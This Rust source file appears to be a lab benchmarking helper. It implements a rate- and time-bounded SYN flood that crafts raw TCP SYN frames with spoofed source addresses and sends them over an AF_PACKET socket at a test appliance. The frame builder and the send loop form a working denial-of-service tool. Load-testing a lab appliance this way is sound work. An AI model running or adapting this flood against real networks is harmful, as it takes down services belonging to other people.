//! A bounded SYN flood for the lab (tests/lab_flood.rs, `bench synflood`): Ethernet frames
//! carrying TCP SYNs from many source addresses, sent through an AF_PACKET socket out of one
//! interface of the current network namespace.
//!
//! Lab use only: the caller names the interface (the client end of a lab veth pair), the
//! source addresses (addresses of the lab's own subnet that no host answers for) and the
//! bounds; the flood stops after `rate * duration` frames or `duration`, whichever comes first.

use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::{Duration, Instant};

/// What to send.
#[derive(Debug, Clone)]
pub struct SynFlood {
    /// The interface to send from, in the current namespace.
    pub interface: String,
    /// The attacker's MAC. A made-up locally administered address makes the peer's kernel
    /// drop the SYN-ACKs at once (not its MAC) instead of routing each one.
    pub src_mac: [u8; 6],
    /// The appliance's MAC (the host end of the lab pair).
    pub dst_mac: [u8; 6],
    /// Source addresses, used round robin; each frame also gets a fresh source port and
    /// sequence number.
    pub sources: Vec<Ipv4Addr>,
    pub dst: Ipv4Addr,
    pub port: u16,
    /// SYNs per second.
    pub rate: u64,
    pub duration: Duration,
}

/// What was sent.
#[derive(Debug, Clone, Copy)]
pub struct FloodReport {
    pub sent: u64,
    pub elapsed: Duration,
}

impl FloodReport {
    pub fn rate_per_s(&self) -> f64 {
        self.sent as f64 / self.elapsed.as_secs_f64()
    }
}

/// RFC 1071 one's-complement sum of `data` added to `sum`, folded to 16 bits.
fn sum16(mut sum: u32, data: &[u8]) -> u32 {
    for pair in data.chunks(2) {
        sum += u32::from(u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]));
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    sum
}

/// Length of [`syn_frame`]'s frames: Ethernet 14, IPv4 20, TCP 20 + MSS option 4.
pub const SYN_FRAME_BYTES: usize = 58;

/// An Ethernet/IPv4/TCP SYN (MSS 1460) from `src:sport` to `dst:port`, checksums filled in.
pub fn syn_frame(
    (src_mac, dst_mac): ([u8; 6], [u8; 6]),
    (src, sport): (Ipv4Addr, u16),
    (dst, port): (Ipv4Addr, u16),
    seq: u32,
) -> [u8; SYN_FRAME_BYTES] {
    let mut f = [0u8; SYN_FRAME_BYTES];
    f[..6].copy_from_slice(&dst_mac);
    f[6..12].copy_from_slice(&src_mac);
    f[12..14].copy_from_slice(&0x0800u16.to_be_bytes());
    let ip = &mut f[14..34];
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&44u16.to_be_bytes());
    ip[6] = 0x40; // DF
    ip[8] = 64;
    ip[9] = 6;
    ip[12..16].copy_from_slice(&src.octets());
    ip[16..20].copy_from_slice(&dst.octets());
    let checksum = !(sum16(0, ip) as u16);
    ip[10..12].copy_from_slice(&checksum.to_be_bytes());
    let tcp = &mut f[34..58];
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&port.to_be_bytes());
    tcp[4..8].copy_from_slice(&seq.to_be_bytes());
    tcp[12] = 6 << 4; // data offset: 24 bytes
    tcp[13] = 0x02; // SYN
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
    tcp[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]); // MSS 1460
    let checksum = !(sum16(pseudo_header_sum(src, dst, 24), &f[34..58]) as u16);
    f[50..52].copy_from_slice(&checksum.to_be_bytes());
    f
}

/// The sum over the TCP pseudo-header (RFC 9293 §3.1).
fn pseudo_header_sum(src: Ipv4Addr, dst: Ipv4Addr, tcp_len: u16) -> u32 {
    let mut pseudo = [0u8; 12];
    pseudo[..4].copy_from_slice(&src.octets());
    pseudo[4..8].copy_from_slice(&dst.octets());
    pseudo[9] = 6;
    pseudo[10..12].copy_from_slice(&tcp_len.to_be_bytes());
    sum16(0, &pseudo)
}

/// The MAC address of `interface`, from sysfs: the interfaces of the namespace sysfs was
/// mounted in (the root namespace's, even in a thread that entered another).
pub fn mac_of(interface: &str) -> std::io::Result<[u8; 6]> {
    let text = std::fs::read_to_string(format!("/sys/class/net/{interface}/address"))?;
    let bytes: Vec<u8> = text
        .trim()
        .split(':')
        .map(|b| u8::from_str_radix(b, 16))
        .collect::<Result<_, _>>()
        .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e))?;
    bytes
        .try_into()
        .map_err(|_| std::io::Error::new(std::io::ErrorKind::InvalidData, "not a 6-byte MAC"))
}

/// An AF_PACKET socket bound to one interface; closed on drop.
struct PacketSocket(OwnedFd);

impl PacketSocket {
    fn open(interface: &str) -> std::io::Result<PacketSocket> {
        let name = std::ffi::CString::new(interface)
            .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidInput, e))?;
        // SAFETY: socket(2) takes no pointers; the descriptor it returns is owned from here on.
        let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0) };
        if fd < 0 {
            return Err(std::io::Error::last_os_error());
        }
        // SAFETY: `fd` is a fresh descriptor nobody else owns.
        let fd = unsafe { OwnedFd::from_raw_fd(fd) };
        // SAFETY: a NUL-terminated name that outlives the call.
        let index = unsafe { libc::if_nametoindex(name.as_ptr()) };
        if index == 0 {
            return Err(std::io::Error::last_os_error());
        }
        // SAFETY: an all-zero sockaddr_ll is a valid value of the type.
        let mut address: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        address.sll_family = libc::AF_PACKET as u16;
        // Protocol 0: the socket sends and receives nothing, so the SYN-ACKs coming back are
        // not copied to it.
        address.sll_protocol = 0;
        address.sll_ifindex = index as i32;
        // SAFETY: bind(2) reads exactly size_of::<sockaddr_ll>() bytes from `address`.
        let bound = unsafe {
            libc::bind(
                fd.as_raw_fd(),
                (&address as *const libc::sockaddr_ll).cast(),
                std::mem::size_of::<libc::sockaddr_ll>() as u32,
            )
        };
        if bound != 0 {
            return Err(std::io::Error::last_os_error());
        }
        Ok(PacketSocket(fd))
    }

    /// Sends one frame; false if the interface's queue is full (ENOBUFS) or the send failed.
    fn send(&self, frame: &[u8]) -> bool {
        // SAFETY: send(2) reads `frame.len()` bytes from a live slice.
        let n = unsafe { libc::send(self.0.as_raw_fd(), frame.as_ptr().cast(), frame.len(), 0) };
        n == frame.len() as isize
    }
}

impl SynFlood {
    /// Sends the flood, paced in steps of about half a millisecond; returns what was sent.
    pub fn run(&self) -> std::io::Result<FloodReport> {
        assert!(!self.sources.is_empty(), "a flood needs source addresses");
        let socket = PacketSocket::open(&self.interface)?;
        let total = (self.rate as f64 * self.duration.as_secs_f64()) as u64;
        let start = Instant::now();
        let mut sent = 0u64;
        let sources = self.sources.len() as u64;
        while sent < total && start.elapsed() < self.duration {
            let due = (start.elapsed().as_micros() as u64 * self.rate / 1_000_000).min(total);
            while sent < due {
                let source = self.sources[(sent % sources) as usize];
                let sport = 1024 + ((sent / sources) % 60_000) as u16;
                let frame = syn_frame(
                    (self.src_mac, self.dst_mac),
                    (source, sport),
                    (self.dst, self.port),
                    sent as u32,
                );
                if !socket.send(&frame) {
                    // The veth queue is full: let it drain.
                    break;
                }
                sent += 1;
            }
            std::thread::sleep(Duration::from_micros(500));
        }
        Ok(FloodReport {
            sent,
            elapsed: start.elapsed(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn syn_frames_have_valid_checksums() {
        let (src, dst) = (Ipv4Addr::new(10, 99, 0, 10), Ipv4Addr::new(10, 99, 0, 2));
        let frame = syn_frame(([2, 0, 0, 0, 0, 1], [2, 0, 0, 0, 0, 2]), (src, 1024), (dst, 8443), 7);
        // A correct one's-complement checksum makes the covered bytes sum to 0xffff.
        assert_eq!(sum16(0, &frame[14..34]), 0xffff);
        assert_eq!(sum16(pseudo_header_sum(src, dst, 24), &frame[34..]), 0xffff);
    }
}
